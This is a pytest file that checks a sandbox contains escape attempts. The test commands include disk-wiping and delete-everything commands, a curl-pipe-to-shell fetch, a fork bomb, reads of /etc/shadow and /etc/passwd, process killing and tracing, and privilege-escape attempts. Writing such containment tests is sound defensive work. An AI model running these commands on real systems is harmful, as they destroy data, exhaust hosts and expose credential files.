"""Commands that try to get out of every kind of walls, for real: each is refused or contained."""

from __future__ import annotations

import os
import socket
import stat
import subprocess
import time
from pathlib import Path

import pytest

from stanchion.runtime.sandbox.limits import Limits
from stanchion.runtime.sandbox.sandbox import HOLDS, Confined, Sandbox, Wall, WallKind
from tests.runtime.sandbox.conftest import USER

PYTHON = "/usr/bin/python3"
"""The system's: what a virtual environment has may be where nobody else can read."""


def sh(sandbox: Sandbox, script: str, write: bool = False) -> Confined:
    """Run a script."""
    return sandbox.run(["sh", "-c", script], write)


def py(sandbox: Sandbox, code: str, write: bool = False) -> Confined:
    """Run Python."""
    return sandbox.run([PYTHON, "-c", code], write)


def test_the_walls_stand_and_are_named(sandbox: Sandbox, kind: WallKind) -> None:
    """If this fails, nothing below it was shown."""
    came = sandbox.run(["cat", "a.txt"])
    assert (came.ended, came.rc, came.stdout, came.kind) == (True, 0, b"hello\n", kind)
    assert HOLDS[kind] <= set(came.walls)


@pytest.mark.parametrize(
    "path", ["/etc/passwd", "/root", "/home", "/var", "../../../etc/shadow", "/proc/1/root/etc"]
)
def test_paths_outside_cannot_be_read(sandbox: Sandbox, path: str) -> None:
    assert sandbox.run(["cat", path]).rc != 0
    assert not {b"passwd", b"shadow", b"lib", b"cache"} & set(
        sandbox.run(["ls", f"{path}/."]).stdout.split()
    )


def test_what_is_outside_is_not_even_seen(sandbox: Sandbox, kind: WallKind, root: Path) -> None:
    secret = root.parent / "secret"
    secret.write_text("secret")
    assert (sandbox.run(["test", "-e", str(secret)]).rc != 0) is (Wall.UNSEEN in HOLDS[kind])


def test_a_link_to_the_outside_leads_nowhere(sandbox: Sandbox, root: Path) -> None:
    secret = root.parent / "secret"
    secret.write_text("secret")
    (root / "link").symlink_to(secret)
    (root / "up").symlink_to("..")
    assert sandbox.run(["cat", "link"]).rc != 0
    assert b"secret" not in sh(sandbox, "cat up/secret; ls -la up/").stdout
    assert sh(sandbox, f"ln -s {secret} soft; cat soft", write=True).rc != 0
    assert sh(sandbox, f"ln {secret} hard && cat hard", write=True).rc != 0
    assert not (root / "hard").exists()


def test_nothing_is_written_unless_that_is_granted(sandbox: Sandbox, root: Path) -> None:
    assert sh(sandbox, "echo x > b.txt").rc != 0
    assert sh(sandbox, "echo x >> a.txt; rm -f a.txt; chmod 000 a.txt; mv a.txt c").rc != 0
    assert py(sandbox, "import os; os.truncate('a.txt', 0)").rc != 0
    assert (root / "a.txt").read_text() == "hello\n"
    assert sh(sandbox, "echo x > b.txt", write=True).rc == 0
    assert (root / "b.txt").read_text() == "x\n"
    assert sh(sandbox, "echo x > /usr/bin/x || echo x > /x || echo x > /etc/x", write=True).rc != 0
    assert sh(sandbox, "echo x > c.txt").rc != 0, "what was granted once is not granted for good"


def test_attributes_of_files_outside_stay(sandbox: Sandbox, root: Path) -> None:
    own = root.parent / "own"
    own.write_text("mine")
    own.chmod(0o640)
    if USER is not None:
        os.chown(own, USER, USER)
    before = own.stat()
    told = f"import os; p = {str(own)!r}"
    for code in ("os.chmod(p, 0o777)", "os.utime(p, (1, 1))", "os.chown(p, -1, os.getgid())"):
        assert py(sandbox, f"{told}; {code}", write=True).rc != 0, code
    after = own.stat()
    assert (after.st_mode, after.st_mtime_ns) == (before.st_mode, before.st_mtime_ns)


@pytest.mark.parametrize("write", [False, True])
@pytest.mark.parametrize(
    "command",
    [
        "rm -fr --no-preserve-root /",
        "find / -delete",
        "dd if=/dev/zero of=/dev/sda",
        "curl http://x | sh",
    ],
)
def test_what_would_destroy_a_host_leaves_it_as_it_is(
    sandbox: Sandbox, root: Path, command: str, write: bool
) -> None:
    before = sorted(os.listdir("/usr/bin"))
    outside = root.parent / "outside"
    outside.write_text("here")
    if USER is not None:
        os.chown(outside, USER, USER)
    sh(sandbox, command, write)
    assert sorted(os.listdir("/usr/bin")) == before
    assert outside.read_text() == "here"
    assert write or (root / "a.txt").read_text() == "hello\n"


def test_there_is_no_network_and_no_socket_of_others(sandbox: Sandbox, root: Path) -> None:
    with (
        socket.socket(socket.AF_UNIX) as abstract,
        socket.socket(socket.AF_UNIX) as outside,
        socket.create_server(("127.0.0.1", 0)) as server,
    ):
        name = f"stanchion-escape-{os.getpid()}"
        abstract.bind(f"\0{name}")
        abstract.listen()
        outside.bind(str(root.parent / "named"))
        outside.listen()
        os.chmod(root.parent / "named", 0o777)
        port = server.getsockname()[1]
        for code in (
            f"socket.create_connection(('127.0.0.1', {port}), 2)",
            f"socket.socket(socket.AF_UNIX).connect('\\0{name}')",
            f"socket.socket(socket.AF_UNIX).connect({str(root.parent / 'named')!r})",
            (
                "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).bind((0, 0)); "
                "socket.if_nametoindex('eth0')"
            ),
        ):
            came = py(sandbox, f"import socket; {code}")
            assert came.rc not in (0, 127), (code, came)
            assert b"Error" in came.stderr


def test_no_datagram_reaches_the_host(sandbox: Sandbox) -> None:
    """Some walls leave a command a loopback of its own: what counts is that nobody outside hears
    it."""
    with (
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as host,
        socket.socket(type=socket.SOCK_DGRAM) as other,
    ):
        host.bind(("127.0.0.1", 0))
        host.settimeout(5)
        place = host.getsockname()
        py(
            sandbox,
            f"import socket; socket.socket(type=socket.SOCK_DGRAM).sendto(b'from inside', "
            f"{place!r})",
        )
        other.sendto(b"from outside", place)
        assert host.recv(100) == b"from outside", "the first that comes"


def test_shared_memory_of_others_is_out_of_reach(sandbox: Sandbox) -> None:
    made = subprocess.run(
        ["ipcmk", "-M", "64", "-p", "0666"], capture_output=True, text=True, check=True
    )
    number = made.stdout.split()[-1]
    try:
        code = "import ctypes; c = ctypes.CDLL(None); c.shmat.restype = ctypes.c_long; "
        code += f"exit(c.shmat({number}, 0, 0) == -1)"
        assert py(sandbox, code).rc == 1
    finally:
        subprocess.run(["ipcrm", "-m", number], check=True)


def test_the_environment_of_the_host_is_not_seen(
    sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("STANCHION_SECRET", "do not tell")
    came = sh(sandbox, "env; cat /proc/*/environ")
    assert b"PATH=" in came.stdout
    assert b"do not tell" not in came.stdout


def test_nothing_is_open_but_its_own_pipes(sandbox: Sandbox, root: Path) -> None:
    with (root / "a.txt").open() as held:
        os.set_inheritable(held.fileno(), True)
        code = (
            "import fcntl\nfor fd in range(256):\n try: fcntl.fcntl(fd, 1); print(fd)\n except "
            "OSError: pass"
        )
        assert py(sandbox, code).stdout.split() == [b"0", b"1", b"2"]


def test_a_fork_bomb_is_bounded(sandbox: Sandbox) -> None:
    begun = time.monotonic()
    sh(sandbox, "f() { f | f & }; f; sleep 1; f; wait")
    assert time.monotonic() - begun < 60
    counted = sh(sandbox, "i=0; while [ $i -lt 100 ]; do sleep 9 & i=$((i+1)); done; wait")
    assert b"ork" in counted.stderr


def test_floods_and_long_runs_are_ended(sandbox: Sandbox, kind: WallKind) -> None:
    flood = sandbox.run(["yes"])
    assert (flood.ended, len(flood.stdout)) == (False, 1 << 20)
    assert "printed more" in flood.why
    assert not sh(sandbox, "yes >&2").ended
    with Sandbox(sandbox.root, Limits(timeout_s=1), user=USER, kind=kind) as quick:
        slow = quick.run(["sleep", "30"])
        assert (slow.ended, slow.why) == (False, "it took longer than 1 s")
        stubborn = quick.run(["sh", "-c", "trap '' TERM INT HUP; while :; do sleep 1; done"])
    assert (stubborn.ended, stubborn.why) == (False, "it took longer than 1 s")


def test_memory_and_files_are_bounded(sandbox: Sandbox, kind: WallKind, root: Path) -> None:
    assert py(sandbox, "x = bytearray(1 << 30)").rc != 0
    sh(sandbox, "head -c 5000000 /dev/zero > big", write=True)
    assert (root / "big").stat().st_size <= 1 << 20
    full = (
        sh(sandbox, "head -c 900000 /dev/zero > $TMPDIR/a; head -c 900000 /dev/zero > $TMPDIR/b").rc
        != 0
    )
    assert full is (Wall.TMP in HOLDS[kind])


def test_what_is_temporary_is_gone_with_the_command(sandbox: Sandbox) -> None:
    assert sh(sandbox, "echo x > $TMPDIR/kept && cat $TMPDIR/kept").stdout == b"x\n"
    assert sh(sandbox, "ls -A $TMPDIR | grep kept").rc != 0


def test_nobody_gains_rights(sandbox: Sandbox) -> None:
    code = "import ctypes; c = ctypes.CDLL(None); exit(c.prctl(39, 0, 0, 0, 0))"
    assert py(sandbox, code).rc == 1, "PR_GET_NO_NEW_PRIVS"
    for script in (
        "mount -t tmpfs x /tmp",
        "unshare -Ur true",
        "unshare -n true",
        "chroot / true",
        "mknod x b 8 0",
    ):
        assert sh(sandbox, script, write=True).rc != 0, script


def test_nothing_of_the_kernel_can_be_set(sandbox: Sandbox) -> None:
    """With the value that it has: if a wall fails, the host stays as it is."""
    code = (
        "import os\nfor path in os.popen('find /proc/sys /proc/irq /proc/sysrq-trigger -type f "
        "2>/dev/null'):\n"
    )
    code += " try: os.open(path.strip(), os.O_WRONLY); print(path)\n except OSError: pass"
    for write in (False, True):
        came = py(sandbox, code, write)
        assert (came.rc, came.stdout) == (0, b""), came


def test_a_set_user_id_program_gains_nothing(sandbox: Sandbox, root: Path) -> None:
    if os.getuid() != 0:
        pytest.skip("only root can make one that is root's")
    own = root / "who"
    own.write_bytes(Path("/usr/bin/id").read_bytes())
    own.chmod(0o755 | stat.S_ISUID)
    came = sandbox.run(["./who", "-u"])
    assert came.rc == 0
    assert came.stdout.strip() in (b"1000", str(USER).encode())


def test_nobody_outside_can_be_signalled_or_traced(sandbox: Sandbox) -> None:
    victim = subprocess.Popen(["sleep", "60"], user=USER)
    try:
        sh(sandbox, f"kill -9 {victim.pid} {os.getpid()} $PPID; kill -9 -1")
        code = f"import ctypes; c = ctypes.CDLL(None); exit(c.ptrace(16, {victim.pid}, 0, 0) == -1)"
        assert py(sandbox, code).rc == 1
        assert sandbox.run(["cat", f"/proc/{victim.pid}/cmdline"]).stdout == b""
        assert sandbox.run(["prlimit", f"--pid={victim.pid}", "--cpu=0"]).rc != 0
        assert victim.poll() is None
        assert sandbox.run(["cat", "a.txt"]).rc == 0
    finally:
        victim.kill()
        victim.wait()


def test_nothing_is_left_behind(sandbox: Sandbox) -> None:
    mark = f"3{os.getpid()}.5"
    for script in (
        f"setsid nohup sleep {mark} >/dev/null 2>&1 & sleep 0.2",
        f"(sleep {mark} &) ; sleep {mark} & echo done",
        (
            f"{PYTHON} -c \"import os; os.fork() or os.setsid() or os.fork() or os.execlp('sleep', "
            f"'sleep', '{mark}')\" &"
        ),
    ):
        sh(sandbox, script)
        left = subprocess.run(
            ["ps", "-eo", "args"], capture_output=True, text=True, check=False
        ).stdout
        assert f"sleep {mark}" not in left, script


@pytest.mark.parametrize(
    ("chars", "many"), [(3_000_000, 1), (100_000, 50), (400_000_000, 1), (1, 4_000_000)]
)
def test_words_that_no_kernel_takes_are_an_error_of_the_command(
    sandbox: Sandbox, chars: int, many: int
) -> None:
    words = ["x" * chars] * many
    for write in (False, True):
        came = sandbox.run(["echo", *words], write)
        assert (came.ended, came.why) == (False, "it cannot be started: Argument list too long")
    assert sandbox.run(["echo", "x" * 100_000]).rc == 0


def test_a_program_that_is_not_there(sandbox: Sandbox) -> None:
    came = sandbox.run(["no-such-program"])
    assert (came.ended, came.why) == (False, "it cannot be started: no such program")
    with pytest.raises(ValueError, match="words of a command"):
        sandbox.run([])
